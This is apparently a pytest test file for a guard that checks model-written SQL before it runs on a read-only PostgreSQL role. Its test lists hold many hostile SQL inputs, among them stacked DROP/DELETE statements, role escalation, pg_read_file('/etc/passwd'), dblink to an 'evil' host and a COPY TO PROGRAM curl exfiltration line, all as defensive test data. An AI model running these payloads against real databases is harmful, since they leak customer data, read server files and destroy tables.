"""The SQL guard: attacks are rejected with a reason, accepted queries run read-only on a
real PostgreSQL and return the right numbers, and nothing the guard accepts can change data."""

from __future__ import annotations

import logging
from collections import Counter

import pytest
import sqlalchemy as sa
import sqlglot
from hypothesis import HealthCheck, given
from hypothesis import settings as hyp_settings
from hypothesis import strategies as st

from cdp.reader import reader_engine
from cdp.schema import CUSTOMERS_DDL, EVENTS_DDL, LIVE_TABLES, ensure_schema
from discovery.guard.run import execute as _execute
from discovery.sql_guard import (
    GuardedSQL,
    SQLFailed,
    SQLGuardError,
    SQLRejected,
    check_select,
    check_where,
    run_guarded,
)

ROW_LIMIT = 100
TIMEOUT_MS = 5000

# --------------------------------------------------------------------------- data

PROFILES_DDL = """
CREATE TABLE customer_profiles (
    customer_id      bigint PRIMARY KEY,
    interests        text[] NOT NULL,
    preferred_colors text[] NOT NULL,
    likes_luxury     boolean NOT NULL,
    product_scores   jsonb NOT NULL,
    color_scores     jsonb NOT NULL,
    event_counts     jsonb NOT NULL,
    purchases        bigint NOT NULL,
    events           bigint NOT NULL,
    last_activity    timestamp,
    profile_text     text NOT NULL,
    text_hash        text NOT NULL
)"""

VOCABULARY_SQL = """
CREATE TABLE event_vocabulary AS
SELECT event_type, product, color, count(*) AS events, min(event_timestamp) AS first_ts, max(event_timestamp) AS last_ts
FROM events GROUP BY 1, 2, 3"""

CUSTOMERS = [
    (1, "Anna", "Schmidt", "anna@example.com", "Germany", 34, "1200.00", "blue", "2024-01-10"),
    (2, "Ben", "Mueller", "ben@example.com", "Germany", 45, "300.00", "red", "2024-02-11"),
    (3, "Ola", "Nowak", "ola@example.com", "Poland", 29, "950.50", "red", "2024-03-12"),
    (4, "Jan", "Kowalski", "jan@example.com", "Poland", 52, "80.00", "green", "2024-04-13"),
    (5, "Marie", "Dubois", "marie@example.com", "France", 41, "510.25", "blue", "2024-05-14"),
]
EVENTS = [
    (1, 1, "purchase", "socks", "red", "20.00", "2026-10-01"),
    (2, 1, "view", "jacket", "blue", "250.00", "2026-10-02"),
    (3, 2, "purchase", "shoes", "red", "120.00", "2026-09-15"),
    (4, 3, "purchase", "socks", "red", "25.00", "2026-08-01"),
    (5, 3, "add_to_cart", "jacket", "black", "300.00", "2026-10-20"),
    (6, 4, "view", "socks", "green", "15.00", "2026-07-01"),
    (7, 5, "purchase", "jacket", "blue", "280.00", "2026-10-25"),
    (8, 5, "purchase", "socks", "blue", "18.00", "2026-10-26"),
]
PROFILES = [
    (1, "{socks,jacket}", "{red,blue}", True),
    (2, "{shoes}", "{red}", False),
    (3, "{jacket,socks}", "{black,red}", True),
    (4, "{socks}", "{green}", False),
    (5, "{jacket,socks}", "{blue}", False),
]


@pytest.fixture
def live_engine(engine):
    """The live tables with a handful of rows, readable by the SELECT-only role."""
    with engine.begin() as conn:
        conn.execute(sa.text(CUSTOMERS_DDL.format(name="customers")))
        conn.execute(sa.text(EVENTS_DDL.format(name="events")))
        conn.execute(sa.text(PROFILES_DDL))
        conn.execute(
            sa.text(
                "INSERT INTO customers VALUES (:i, :f, :l, :e, :c, :a, CAST(:t AS numeric), :fc, CAST(:d AS timestamp))"
            ),
            [dict(zip(["i", "f", "l", "e", "c", "a", "t", "fc", "d"], row, strict=True)) for row in CUSTOMERS],
        )
        conn.execute(
            sa.text("INSERT INTO events VALUES (:i, :c, :t, :p, :col, CAST(:pr AS numeric), CAST(:ts AS timestamp))"),
            [dict(zip(["i", "c", "t", "p", "col", "pr", "ts"], row, strict=True)) for row in EVENTS],
        )
        conn.execute(
            sa.text(
                "INSERT INTO customer_profiles VALUES (:i, CAST(:int AS text[]), CAST(:col AS text[]), :lux, "
                "'{}'::jsonb, '{}'::jsonb, '{}'::jsonb, 0, 0, NULL, 'profile', 'hash')"
            ),
            [dict(zip(["i", "int", "col", "lux"], row, strict=True)) for row in PROFILES],
        )
        conn.execute(sa.text(VOCABULARY_SQL))
    ensure_schema(engine)  # grants the reader role SELECT on the live tables
    return engine


@pytest.fixture
def reader(live_engine, settings):
    """The pool model-written SQL runs on: it logs in as the read-only role."""
    return reader_engine(settings)


def snapshot(engine) -> dict:
    """Row counts and a content digest of every live table, the tables, roles and sequences."""
    state: dict = {}
    with engine.connect() as conn:
        for table in LIVE_TABLES:
            state[table] = tuple(
                conn.execute(
                    sa.text(
                        f"SELECT count(*), md5(coalesce(string_agg(t::text, '|' ORDER BY t::text), '')) FROM {table} t"
                    )
                ).one()
            )
        state["tables"] = conn.execute(
            sa.text(
                "SELECT string_agg(schemaname || '.' || tablename, ',' ORDER BY schemaname, tablename) "
                "FROM pg_tables WHERE schemaname NOT IN ('pg_catalog', 'information_schema')"
            )
        ).scalar()
        state["roles"] = conn.execute(
            sa.text("SELECT string_agg(rolname, ',' ORDER BY rolname) FROM pg_roles")
        ).scalar()
        state["sequence"] = tuple(
            conn.execute(sa.text("SELECT last_value, is_called FROM ingestion_runs_id_seq")).one()
        )
    return state


# --------------------------------------------------------------------------- 1. attacks

ATTACKS = [
    # more than one statement
    ("SELECT 1; SELECT 2", "multiple_statements"),
    ("SELECT * FROM customers; DROP TABLE customers", "multiple_statements"),
    ("SELECT 1; COMMIT; DROP TABLE customers", "multiple_statements"),
    ("SELECT 1 -- x\n; DROP TABLE customers", "multiple_statements"),
    ("SELECT 1; /* */ DELETE FROM customers", "multiple_statements"),
    ("SELECT 1 /* ; */ ; DELETE FROM customers", "multiple_statements"),
    ("SELECT '\\' ; DELETE FROM customers; --'", "multiple_statements"),
    # writes and DDL
    ("DROP TABLE customers", "not_select"),
    ("DELETE FROM customers", "not_select"),
    ("UPDATE customers SET total_spent = 0", "not_select"),
    ("INSERT INTO customers SELECT * FROM customers", "not_select"),
    ("TRUNCATE customers", "not_select"),
    ("ALTER TABLE customers ADD COLUMN x int", "not_select"),
    ("CREATE TABLE stolen AS SELECT * FROM customers", "not_select"),
    ("GRANT ALL ON customers TO PUBLIC", "not_select"),
    ("MERGE INTO customers c USING events e ON c.customer_id = e.customer_id WHEN MATCHED THEN DELETE", "not_select"),
    ("VALUES (1)", "not_select"),
    # writable CTEs
    ("WITH x AS (DELETE FROM customers RETURNING *) SELECT * FROM x", "writable_cte"),
    ("WITH x AS (UPDATE customers SET age = 0 RETURNING *) SELECT * FROM x", "writable_cte"),
    ("WITH x AS (INSERT INTO events SELECT * FROM events RETURNING *) SELECT count(*) FROM x", "writable_cte"),
    ("WITH a AS (SELECT 1), b AS (DELETE FROM events RETURNING 1) SELECT * FROM a", "writable_cte"),
    # SELECT INTO, locking
    ("SELECT * INTO stolen FROM customers", "select_into"),
    ("SELECT * FROM customers FOR UPDATE", "locking_clause"),
    ("SELECT * FROM customers FOR SHARE NOWAIT", "locking_clause"),
    ("SELECT * FROM (SELECT * FROM events FOR UPDATE) e", "locking_clause"),
    # utility statements
    ("EXPLAIN ANALYZE SELECT * FROM customers", "not_select"),
    ("EXPLAIN SELECT * FROM customers", "not_select"),
    ("COPY customers TO PROGRAM 'curl -d @- http://evil'", "not_select"),
    ("COPY (SELECT * FROM customers) TO '/tmp/customers.csv'", "not_select"),
    ("SET role postgres", "not_select"),
    ("SET ROLE NONE", "not_select"),
    ("SET statement_timeout = 0", "not_select"),
    ("SET LOCAL statement_timeout TO 0", "not_select"),
    ("RESET ROLE", "not_select"),
    ("RESET ALL", "not_select"),
    ("SHOW ALL", "not_select"),
    ("BEGIN", "not_select"),
    ("START TRANSACTION", "not_select"),
    ("COMMIT", "not_select"),
    ("ROLLBACK", "not_select"),
    ("SAVEPOINT s", "not_select"),
    ("DO $$ BEGIN DELETE FROM customers; END $$", "not_select"),
    ("CALL refresh_everything()", "not_select"),
    ("PREPARE p AS SELECT 1", "not_select"),
    ("EXECUTE p", "not_select"),
    ("DEALLOCATE p", "not_select"),
    ("LISTEN x", "not_select"),
    ("NOTIFY x", "not_select"),
    ("VACUUM customers", "not_select"),
    ("ANALYZE customers", "not_select"),
    ("LOCK TABLE customers", "not_select"),
    # functions
    ("SELECT pg_sleep(10)", "function_not_allowed"),
    ("SELECT count(*) FROM customers WHERE pg_sleep(1) IS NOT NULL", "function_not_allowed"),
    ("SELECT customer_id FROM customers ORDER BY pg_sleep(1)", "function_not_allowed"),
    ("WITH x AS (SELECT pg_sleep(1)) SELECT * FROM x", "function_not_allowed"),
    ("SELECT pg_catalog.pg_sleep(1)", "function_not_allowed"),
    ("SELECT pg_catalog.lower('x')", "function_not_allowed"),
    ("SELECT pg_read_file('/etc/passwd')", "function_not_allowed"),
    ("SELECT * FROM pg_ls_dir('.')", "function_not_allowed"),
    ("SELECT lo_import('/etc/passwd')", "function_not_allowed"),
    ("SELECT lo_export(1, '/tmp/x')", "function_not_allowed"),
    ("SELECT set_config('role', 'postgres', false)", "function_not_allowed"),
    ("SELECT current_setting('data_directory')", "function_not_allowed"),
    ("SELECT query_to_xml('DELETE FROM customers', true, true, '')", "function_not_allowed"),
    ("SELECT table_to_xml('customers', true, true, '')", "function_not_allowed"),
    ("SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", "function_not_allowed"),
    ("SELECT dblink_exec('host=evil', 'DROP TABLE customers')", "function_not_allowed"),
    ("SELECT version()", "function_not_allowed"),
    ("SELECT txid_current()", "function_not_allowed"),
    ("SELECT nextval('ingestion_runs_id_seq')", "function_not_allowed"),
    ("SELECT setval('ingestion_runs_id_seq', 1)", "function_not_allowed"),
    ("SELECT pg_terminate_backend(1)", "function_not_allowed"),
    ("SELECT repeat('x', 1000000000)", "function_not_allowed"),
    ("SELECT current_user", "function_not_allowed"),
    ("SELECT user", "function_not_allowed"),
    ("SELECT current_role", "function_not_allowed"),
    # tables
    ("SELECT * FROM pg_catalog.pg_shadow", "schema_qualified"),
    ("SELECT * FROM information_schema.tables", "schema_qualified"),
    ("SELECT * FROM public.customers", "schema_qualified"),
    ("SELECT * FROM a.b.c.d", "schema_qualified"),
    ("SELECT * FROM pg_catalog.pg_ls_dir('.')", "function_not_allowed"),
    ("SELECT * FROM pg_catalog.lower('x')", "function_not_allowed"),
    ("SELECT * FROM pg_shadow", "table_not_allowed"),
    ("SELECT * FROM pg_roles", "table_not_allowed"),
    ("SELECT * FROM ingestion_runs", "table_not_allowed"),
    ("SELECT * FROM customers_new", "table_not_allowed"),
    ('SELECT * FROM "CUSTOMERS"', "table_not_allowed"),
    ("SELECT * FROM customers WHERE customer_id IN (SELECT customer_id FROM embedding_state)", "table_not_allowed"),
    ("SELECT c.*, r.rolname FROM customers c CROSS JOIN pg_authid r", "table_not_allowed"),
    # a non-recursive CTE does not see itself: the inner pg_roles is the catalog
    ("WITH pg_roles AS (SELECT * FROM pg_roles) SELECT * FROM pg_roles", "table_not_allowed"),
    ("WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a", "table_not_allowed"),
    # types, parameters
    ("SELECT 'pg_authid'::regclass", "type_not_allowed"),
    ("SELECT 1::oid", "type_not_allowed"),
    ("SELECT '1'::xid", "type_not_allowed"),
    ("SELECT * FROM customers WHERE customer_id = $1", "parameter"),
    ("SELECT * FROM customers WHERE customer_id = :id", "parameter"),
    # garbage
    ("SELEC * FROM customers", "unparseable"),
    ("SELECT * FROM customers WHERE", "unparseable"),
    ("'; DROP TABLE customers; --", "unparseable"),
    ("SELECT 'unterminated", "unparseable"),
    ("robert'); DROP TABLE students;--", "unparseable"),
    ("", "empty"),
    ("  ;  ", "empty"),
    ("-- only a comment", "empty"),
    ("SELECT " + "1 + " * 6000 + "1", "too_long"),
]


@pytest.mark.parametrize(("sql", "reason"), ATTACKS, ids=[f"{i:03d}-{a[1]}" for i, a in enumerate(ATTACKS)])
def test_attack_is_rejected_with_a_reason(sql, reason):
    with pytest.raises(SQLRejected) as info:
        check_select(sql, row_limit=ROW_LIMIT)
    assert info.value.reason == reason, str(info.value)
    assert str(info.value)  # a message for the agent / the user


@pytest.mark.parametrize(
    ("sql", "expected"),
    [
        ("SELECT 1; SELECT 2", "Only one SELECT statement is allowed; found 2 statements"),
        ("SELECT * FROM pg_shadow", "Table pg_shadow is not allowed; use customers, events, customer_profiles"),
        ("SELECT * FROM pg_catalog.pg_shadow", "Table pg_catalog.pg_shadow is not allowed"),
        ("SELECT pg_sleep(1)", "Function pg_sleep is not allowed"),
        ("SELECT version()", "Function version is not allowed"),
        ("DROP TABLE customers", "Only SELECT queries are allowed; DROP statements are not"),
        ("EXPLAIN ANALYZE SELECT 1", "EXPLAIN statements are not"),
        ("SELECT * FROM pg_catalog.pg_ls_dir('.')", "Function pg_catalog.pg_ls_dir is not allowed"),
        ("SELECT * FROM customers WHERE", "Could not parse the SQL"),
    ],
)
def test_rejection_messages_are_actionable(sql, expected):
    with pytest.raises(SQLRejected, match=expected.replace("(", r"\(").replace(")", r"\)")):
        check_select(sql, row_limit=ROW_LIMIT)


def test_rejections_are_logged_without_the_sql(caplog):
    caplog.set_level(logging.WARNING)
    with pytest.raises(SQLRejected):
        check_select("SELECT * FROM pg_shadow WHERE usename = 'anna@example.com'", row_limit=ROW_LIMIT)
    with pytest.raises(SQLRejected):
        check_select("SELECT email FROM customers WHERE email = 'anna@example.com' garbage", row_limit=ROW_LIMIT)
    with pytest.raises(SQLRejected):  # sqlglot's own "falling back to Command" warning must not echo it either
        check_select("EXPLAIN SELECT * FROM customers WHERE email = 'anna@example.com'", row_limit=ROW_LIMIT)
    with pytest.raises(SQLRejected):
        check_where("email = 'anna@example.com'")
    records = [r for r in caplog.records if r.name == "discovery.sql_guard"]
    assert [r.levelno for r in records] == [logging.WARNING] * 4
    assert [r.getMessage().split(")")[0] for r in records] == [
        "Model-written SQL rejected (table_not_allowed",
        "Model-written SQL rejected (unparseable",
        "Model-written SQL rejected (not_select",
        "Model-written SQL rejected (column_not_allowed",
    ]
    assert all("anna@example.com" not in r.getMessage() for r in caplog.records)


def test_failures_are_logged(reader, caplog):
    caplog.set_level(logging.WARNING, logger="discovery.sql_guard")
    with pytest.raises(SQLFailed):
        run_guarded(reader, "SELECT no_such_column FROM customers", timeout_ms=TIMEOUT_MS, row_limit=5)
    assert any("invalid_sql" in r.getMessage() and r.levelno == logging.WARNING for r in caplog.records)


# --------------------------------------------------------------------------- 2. accepted queries, for real


@pytest.mark.parametrize(
    ("sql", "expected"),
    [
        ("SELECT count(*) FROM customers", [[5]]),
        (
            "SELECT country, count(*) AS n FROM customers GROUP BY country ORDER BY country",
            [["France", 1], ["Germany", 2], ["Poland", 2]],
        ),
        (
            "SELECT c.country, count(*) FROM customers c JOIN events e ON e.customer_id = c.customer_id "
            "JOIN customer_profiles p ON p.customer_id = c.customer_id "
            "WHERE e.event_type = 'purchase' AND p.likes_luxury GROUP BY c.country ORDER BY c.country",
            [["Germany", 1], ["Poland", 1]],
        ),
        (
            "WITH spend AS (SELECT customer_id, sum(price) AS s FROM events WHERE event_type = 'purchase' "
            "GROUP BY customer_id) SELECT customer_id, s FROM spend ORDER BY s DESC",
            [[5, 298.0], [2, 120.0], [3, 25.0], [1, 20.0]],
        ),
        (
            "SELECT customer_id, rank() OVER (PARTITION BY country ORDER BY total_spent DESC) AS r "
            "FROM customers ORDER BY customer_id",
            [[1, 1], [2, 2], [3, 1], [4, 2], [5, 1]],
        ),
        (
            "SELECT customer_id FROM customers WHERE country = 'Poland' "
            "UNION SELECT customer_id FROM events WHERE product = 'shoes' ORDER BY 1",
            [[2], [3], [4]],
        ),
        ("SELECT count(*) FROM customer_profiles WHERE 'socks' = ANY(interests)", [[4]]),
        (
            "SELECT total_spent, created_at, lower(country) FROM customers WHERE customer_id = 1",
            [[1200.0, "2024-01-10T00:00:00", "germany"]],
        ),
        (
            "SELECT to_char(date_trunc('month', event_timestamp), 'YYYY-MM') AS m, count(*) FROM events "
            "GROUP BY 1 ORDER BY 1",
            [["2026-07", 1], ["2026-08", 1], ["2026-09", 1], ["2026-10", 5]],
        ),
        ("SELECT count(*) FROM customers WHERE country LIKE '%a%' AND ':x' = ':x' AND age % 2 = 1", [[3]]),
        (
            "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 4) SELECT sum(i) FROM n",
            [[10]],
        ),
    ],
)
def test_accepted_queries_run_and_return_the_right_rows(reader, sql, expected):
    result = run_guarded(reader, sql, timeout_ms=TIMEOUT_MS, row_limit=ROW_LIMIT)
    assert result.rows == expected
    assert result.truncated is False
    assert result.sql == check_select(sql, row_limit=ROW_LIMIT).sql


def test_result_columns_and_tables(reader):
    sql = "SELECT c.country AS land, count(e.event_id) AS n FROM customers c LEFT JOIN events e USING (customer_id) GROUP BY 1"
    assert check_select(sql, row_limit=10).tables == ("customers", "events")
    result = run_guarded(reader, sql + " ORDER BY 1", timeout_ms=TIMEOUT_MS, row_limit=10)
    assert result.columns == ["land", "n"]
    assert result.rows == [["France", 2], ["Germany", 3], ["Poland", 3]]


def test_limit_is_injected_when_missing(reader):
    result = run_guarded(reader, "SELECT * FROM events ORDER BY event_id", timeout_ms=TIMEOUT_MS, row_limit=3)
    assert result.sql.endswith("LIMIT 3")
    assert [row[0] for row in result.rows] == [1, 2, 3]
    assert result.truncated is True


def test_larger_limit_is_clamped(reader):
    guarded = check_select("SELECT * FROM events ORDER BY event_id LIMIT 500", row_limit=3)
    assert (guarded.limit, guarded.limit_imposed) == (3, True)
    assert "LIMIT 500" not in guarded.sql and guarded.sql.endswith("LIMIT 3")
    result = run_guarded(reader, "SELECT * FROM events LIMIT 500", timeout_ms=TIMEOUT_MS, row_limit=3)
    assert len(result.rows) == 3 and result.truncated is True


def test_smaller_limit_is_kept(reader):
    result = run_guarded(reader, "SELECT * FROM events LIMIT 2 OFFSET 1", timeout_ms=TIMEOUT_MS, row_limit=3)
    assert result.sql.endswith("LIMIT 2 OFFSET 1")
    assert len(result.rows) == 2 and result.truncated is False


@pytest.mark.parametrize(
    ("sql", "limit"),
    [
        ("SELECT * FROM customers LIMIT ALL", 4),
        ("SELECT * FROM customers LIMIT (SELECT 100)", 4),
        ("SELECT * FROM customers FETCH FIRST 2 ROWS ONLY", 2),
        ("SELECT * FROM customers FETCH FIRST 2 ROWS WITH TIES", 4),
        ("(SELECT * FROM customers)", 4),
    ],
)
def test_odd_limits_are_replaced(sql, limit):
    guarded = check_select(sql, row_limit=4)
    assert guarded.limit == limit
    assert guarded.sql.endswith(f"LIMIT {limit}")


def test_limit_applies_to_the_whole_union(reader):
    sql = "SELECT customer_id FROM customers UNION ALL SELECT customer_id FROM events"
    guarded = check_select(sql, row_limit=6)
    assert guarded.sql == "SELECT customer_id FROM customers UNION ALL SELECT customer_id FROM events LIMIT 6"
    assert len(run_guarded(reader, sql, timeout_ms=TIMEOUT_MS, row_limit=6).rows) == 6


def test_executed_sql_is_the_re_rendered_one(reader):
    sql = "select   count(*) /* the model's note */ from customers -- trailing remark\n;"
    result = run_guarded(reader, sql, timeout_ms=TIMEOUT_MS, row_limit=10)
    assert result.sql == "SELECT COUNT(*) FROM customers LIMIT 10"
    assert result.rows == [[5]]
    assert "note" not in result.sql and "--" not in result.sql and "/*" not in result.sql


def test_comment_hiding_a_statement_on_the_same_line_is_just_a_comment(reader):
    # everything after -- is a comment: one statement, rendered without the comment
    result = run_guarded(
        reader, "SELECT count(*) FROM events -- ; DELETE FROM events", timeout_ms=TIMEOUT_MS, row_limit=10
    )
    assert result.sql == "SELECT COUNT(*) FROM events LIMIT 10"
    assert result.rows == [[8]]


def test_cte_names_shadow_tables_only_where_visible():
    ok = check_select("WITH pg_shadow AS (SELECT customer_id FROM customers) SELECT * FROM pg_shadow", row_limit=5)
    assert ok.tables == ("customers",)
    later = check_select("WITH a AS (SELECT 1 AS x), b AS (SELECT x FROM a) SELECT * FROM b", row_limit=5)
    assert later.tables == ()
    nested = "SELECT * FROM (WITH x AS (SELECT 1) SELECT * FROM x) s, x"
    with pytest.raises(SQLRejected, match="Table x is not allowed"):
        check_select(nested, row_limit=5)


def test_allowed_tables_can_be_narrowed():
    with pytest.raises(SQLRejected, match="Table events is not allowed; use customer_profiles"):
        check_select("SELECT * FROM events", allowed_tables=("customer_profiles",), row_limit=5)


# --------------------------------------------------------------------------- 3. read-only execution


def test_slow_accepted_query_times_out_cleanly(reader):
    sql = "SELECT count(*) FROM generate_series(1, 100000000) a CROSS JOIN generate_series(1, 100000000) b"
    check_select(sql, row_limit=10)  # the guard accepts it: only the timeout stops it
    with pytest.raises(SQLFailed) as info:
        run_guarded(reader, sql, timeout_ms=50, row_limit=10)
    assert info.value.reason == "timeout"
    assert "The query took longer than 50 ms and was cancelled; narrow it down" in str(info.value)
    # the pooled connection is fine afterwards
    assert run_guarded(reader, "SELECT count(*) FROM events", timeout_ms=TIMEOUT_MS, row_limit=10).rows == [[8]]


def bypass(sql: str) -> GuardedSQL:
    """What the executor would get if the guard were bypassed."""
    return GuardedSQL(sql=sql, tables=(), limit=10, limit_imposed=False)


@pytest.mark.parametrize(
    "sql",
    [
        "DELETE FROM events",
        "UPDATE customers SET total_spent = 0",
        "INSERT INTO events SELECT * FROM events",
        "DROP TABLE customer_profiles",
        "CREATE TABLE stolen AS SELECT * FROM customers",
        "TRUNCATE customers",
        "WITH x AS (DELETE FROM customers RETURNING *) SELECT count(*) FROM x",
        "SELECT nextval('ingestion_runs_id_seq')",
    ],
)
def test_writes_fail_even_if_the_guard_were_bypassed(live_engine, reader, sql):
    before = snapshot(live_engine)
    with pytest.raises(SQLFailed) as info:
        _execute(reader, bypass(sql), timeout_ms=TIMEOUT_MS)
    assert info.value.reason in {"read_only", "permission_denied"}, str(info.value)
    assert snapshot(live_engine) == before


def test_function_outside_the_roles_rights_fails_cleanly(reader):
    with pytest.raises(SQLFailed) as info:
        _execute(reader, bypass("SELECT pg_read_file('PG_VERSION')"), timeout_ms=TIMEOUT_MS)
    assert info.value.reason == "permission_denied"
    assert "permission denied for function pg_read_file" in str(info.value)


def test_table_outside_the_roles_rights_fails_cleanly(reader):
    # the guard is told ingestion_runs is fine; the SELECT-only role still cannot read it
    with pytest.raises(SQLFailed) as info:
        run_guarded(
            reader,
            "SELECT * FROM ingestion_runs",
            timeout_ms=TIMEOUT_MS,
            row_limit=5,
            allowed_tables=["ingestion_runs"],
        )
    assert info.value.reason == "permission_denied"
    assert "ingestion_runs" in str(info.value)


@pytest.mark.parametrize(
    ("sql", "reason", "fragment"),
    [
        ("SELECT no_such_column FROM customers", "invalid_sql", "no_such_column"),
        ("SELECT 1 / (age - age) FROM customers", "data_error", "division by zero"),
        ("SELECT CAST(country AS integer) FROM customers", "data_error", "invalid input syntax"),
    ],
)
def test_postgres_errors_become_clear_failures(reader, sql, reason, fragment):
    with pytest.raises(SQLFailed) as info:
        run_guarded(reader, sql, timeout_ms=TIMEOUT_MS, row_limit=5)
    assert info.value.reason == reason
    assert fragment in str(info.value)
    assert "@example.com" not in str(info.value)  # data errors do not echo customer values


# --------------------------------------------------------------------------- 4. properties

# A grammar of fragments: safe pieces are listed more often so that a good share of the
# generated SQL is accepted and really executed.
_SAFE_TABLES = ["customers", "events", "customer_profiles", "event_vocabulary"]
_OTHER_TABLES = [
    "ingestion_runs", "pg_shadow", "pg_catalog.pg_class", "information_schema.tables", "customers_new", "pg_roles",
]  # fmt: skip
_SAFE_EXPRS = [
    "*", "count(*)", "count(*) AS n", "lower('X')", "now()", "random()", "md5('x')", "generate_series(1, 3)",
    "(SELECT count(*) FROM events)", "1 + 1",
]  # fmt: skip
_BAD_EXPRS = [
    "pg_sleep(0)", "version()", "txid_current()", "set_config('role', 'postgres', false)", "current_setting('role')",
    "nextval('ingestion_runs_id_seq')", "pg_read_file('PG_VERSION')", "lo_import('/etc/hosts')",
    "query_to_xml('delete from customers', true, true, '')",
]  # fmt: skip
_WHERES = [
    "", "", " WHERE 1 = 1 OR true", " WHERE 2 > 1", " WHERE EXISTS (SELECT 1 FROM events)",
    " WHERE pg_sleep(0) IS NULL",
]  # fmt: skip
_TAILS = ["", "", " LIMIT 2", " LIMIT 100000", " ORDER BY 1", " OFFSET 1", " FOR UPDATE"]
_WRITES = [
    "DELETE FROM {t}", "UPDATE {t} SET customer_id = customer_id + 1", "INSERT INTO {t} SELECT * FROM {t}",
    "DROP TABLE {t}", "TRUNCATE {t}", "ALTER TABLE {t} RENAME TO zz", "CREATE TABLE zz AS SELECT * FROM {t}",
    "GRANT ALL ON {t} TO PUBLIC", "SELECT * INTO zz FROM {t}", "SET ROLE NONE", "RESET ROLE", "COMMIT", "BEGIN",
    "SET LOCAL statement_timeout = 0", "COPY {t} FROM PROGRAM 'true'",
]  # fmt: skip
_SEPARATORS = ["; ", " -- hidden\n; ", "; /* c */ ", " /* ; */ ", " -- ; ", "\n", ";\n", " ", ""]

_table = st.one_of(st.sampled_from(_SAFE_TABLES), st.sampled_from(_SAFE_TABLES), st.sampled_from(_OTHER_TABLES))
_expr = st.one_of(st.sampled_from(_SAFE_EXPRS), st.sampled_from(_SAFE_EXPRS), st.sampled_from(_BAD_EXPRS))
_select = st.builds(
    lambda e, t, w, tail: f"SELECT {e} FROM {t}{w}{tail}",
    _expr,
    _table,
    st.sampled_from(_WHERES),
    st.sampled_from(_TAILS),
)
_write = st.builds(lambda w, t: w.format(t=t), st.sampled_from(_WRITES), _table)
_with = st.builds(
    lambda inner: f"WITH x AS ({inner}) SELECT * FROM x",
    st.one_of(_select, _write.map(lambda w: w + " RETURNING *")),
)
_branch = st.builds(lambda e, t, w: f"SELECT {e} FROM {t}{w}", _expr, _table, st.sampled_from(_WHERES))
_union = st.builds(
    lambda a, op, b, tail: f"{a} {op} {b}{tail}",
    _branch,
    st.sampled_from(["UNION", "UNION ALL", "INTERSECT", "EXCEPT"]),
    _branch,
    st.sampled_from(_TAILS),
)
_statement = st.one_of(_select, _select, _select, _write, _with, _union)
_SQL = st.one_of(
    _statement,
    _statement,
    st.builds(lambda a, sep, b: a + sep + b, _statement, st.sampled_from(_SEPARATORS), _statement),
    st.builds(lambda a, sep: a + sep, _statement, st.sampled_from(_SEPARATORS)),
    st.builds(lambda a, tail: a + tail, _statement, st.text(alphabet=";'\"-/*() xSELECTDROP\n", max_size=12)),
)


def test_nothing_the_guard_accepts_changes_anything(live_engine, reader):
    before = snapshot(live_engine)
    seen: Counter[str] = Counter()

    @hyp_settings(
        max_examples=150,
        deadline=None,
        database=None,
        derandomize=True,  # the same 150 statements every run: a CI failure reproduces
        suppress_health_check=[HealthCheck.function_scoped_fixture],
    )
    @given(sql=_SQL)
    def check(sql: str) -> None:
        try:
            result = run_guarded(reader, sql, timeout_ms=2000, row_limit=20)
        except SQLRejected as exc:
            assert exc.reason
            seen["rejected"] += 1
        except SQLFailed as exc:
            assert exc.reason
            seen["failed"] += 1
        else:
            assert len(result.rows) <= 20
            seen["accepted"] += 1
        assert snapshot(live_engine) == before, sql

    check()
    assert seen["accepted"] >= 10 and seen["rejected"] >= 30, seen


@hyp_settings(max_examples=300, deadline=None, database=None, derandomize=True)
@given(sql=st.one_of(_SQL, st.text(max_size=80)))
def test_check_select_only_ever_rejects_or_renders_one_select(sql):
    try:
        guarded = check_select(sql, row_limit=7)
    except SQLRejected as exc:
        assert exc.reason and str(exc)
        return
    statements = [s for s in sqlglot.parse(guarded.sql, dialect="postgres") if s is not None]
    assert len(statements) == 1
    assert isinstance(statements[0], (sqlglot.exp.Select, sqlglot.exp.SetOperation, sqlglot.exp.Subquery))
    assert guarded.limit <= 7 and f"LIMIT {guarded.limit}" in guarded.sql


# --------------------------------------------------------------------------- 5. check_where


def test_check_where_renders_a_behavioural_fragment():
    fragment = "event_type = 'purchase' AND price > 50 AND event_timestamp > now() - interval '60 days' -- recent"
    assert check_where(fragment) == (
        "(event_type = 'purchase' AND price > 50 AND event_timestamp > CURRENT_TIMESTAMP - INTERVAL '60 DAYS')"
    )


def test_check_where_fragment_embeds_in_a_parameterized_query(live_engine):
    where = check_where("event_type = 'purchase' AND price > 50 OR product = ':ids'")
    assert "\\:ids" in where  # escaped for sqlalchemy.text(): not a bind parameter
    stmt = sa.text(f"SELECT count(*) FROM events WHERE customer_id = ANY(:ids) AND {where}")
    with live_engine.connect() as conn:
        assert conn.execute(stmt, {"ids": [1, 2, 3, 4, 5]}).scalar() == 2
        assert conn.execute(stmt, {"ids": [5]}).scalar() == 1


def test_check_where_accepts_a_subquery_over_the_same_table(live_engine):
    where = check_where(
        "customer_id IN (SELECT e2.customer_id FROM events e2 WHERE e2.event_type = 'purchase' "
        "GROUP BY e2.customer_id HAVING count(*) >= 2)"
    )
    with live_engine.connect() as conn:
        assert conn.execute(sa.text(f"SELECT count(*) FROM events WHERE {where}")).scalar() == 2


def test_check_where_allowed_columns_can_be_narrowed():
    assert check_where("price > 5", allowed_columns=["price"]) == "(price > 5)"
    with pytest.raises(SQLRejected, match="Column product is not allowed; events has price"):
        check_where("product = 'socks'", allowed_columns=["price"])


def test_check_where_for_another_table():
    assert check_where("likes_luxury AND 'socks' = ANY(interests)", table="customer_profiles") == (
        "(likes_luxury AND 'socks' = ANY(interests))"
    )
    with pytest.raises(SQLRejected, match="Column price is not allowed"):
        check_where("price > 5", table="customer_profiles")


@pytest.mark.parametrize(
    ("fragment", "reason"),
    [
        ("customer_id IN (SELECT customer_id FROM customers WHERE country = 'Poland')", "table_not_allowed"),
        ("EXISTS (SELECT 1 FROM pg_shadow)", "table_not_allowed"),
        ("customer_id IN (SELECT customer_id FROM pg_catalog.pg_authid)", "schema_qualified"),
        ("email LIKE '%@example.com'", "column_not_allowed"),
        ("c.country = 'Poland'", "column_not_allowed"),
        ("pg_sleep(1) IS NULL", "function_not_allowed"),
        ("current_setting('role') = 'x'", "function_not_allowed"),
        ("1=1; DROP TABLE events", "multiple_statements"),
        ("1=1 -- x\n; DROP TABLE events", "multiple_statements"),
